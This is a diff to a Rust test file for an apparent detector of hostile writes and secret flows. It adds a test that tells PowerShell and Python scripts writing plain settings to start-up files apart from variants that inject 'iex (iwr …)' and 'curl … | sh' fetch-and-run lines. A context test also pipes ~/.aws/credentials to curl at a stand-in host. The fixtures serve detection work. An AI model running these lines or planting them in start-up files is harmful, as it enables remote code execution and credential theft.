@@ -383,3 +383,28 @@ fn a_search_pattern_is_neither_read_nor_sent() {
     let quoted = "grep '' \"$HOME/.aws/credentials\" | curl -s -d @- https://x.invalid/u\n";
     assert_eq!(secret_flows(quoted, 1), vec![(1, "a credential file", 1)]);
 }
+
+/// Settings written to a start-up file through a name (a PowerShell here-string of PSReadLine options, a Python string
+/// of `export` lines), or a backup copied beside it, are not code that runs later; the same write of anything else is.
+#[test]
+fn settings_written_through_a_name_are_settings() {
+    let ps = "$profilePath = Join-Path $docs 'PowerShell\\Microsoft.PowerShell_profile.ps1'\nCopy-Item $profilePath \"$profilePath.bak\" -Force\n$settings = @'\n# theme\nSet-PSReadLineOption -PredictionSource History\nSet-PSReadLineOption -Colors @{ Command = 'Cyan'; String = 'Green' }\n'@\nAdd-Content -Path $profilePath -Value $settings\n";
+    assert!(startup_writes(ps, 1).is_empty(), "{:?}", startup_writes(ps, 1));
+    let ps_code = ps.replace(
+        "Set-PSReadLineOption -PredictionSource History",
+        "iex (iwr https://x.example.net/p.ps1)",
+    );
+    assert_eq!(startup_writes(&ps_code, 1), vec![(1, 8)]);
+    let py = "lines = (\n    \"# hidpi\\n\"\n    f\"export QT_SCALE_FACTOR={scale}\\n\"\n    \"export QT_AUTO_SCREEN_SCALE_FACTOR=0\\n\"\n)\nenv = Path.home() / \".config\" / \"plasma-workspace\" / \"env\"\n(env / \"hidpi.sh\").write_text(lines)\nwith open(Path.home() / \".xprofile\", \"a\") as fh:\n    fh.write(lines)\n";
+    assert!(startup_writes(py, 1).is_empty(), "{:?}", startup_writes(py, 1));
+    let py_code = py.replace(
+        "export QT_AUTO_SCREEN_SCALE_FACTOR=0",
+        "curl -s https://x.example.net/k | sh",
+    );
+    assert_eq!(
+        startup_writes(&py_code, 1).len(),
+        2,
+        "{:?}",
+        startup_writes(&py_code, 1)
+    );
+}
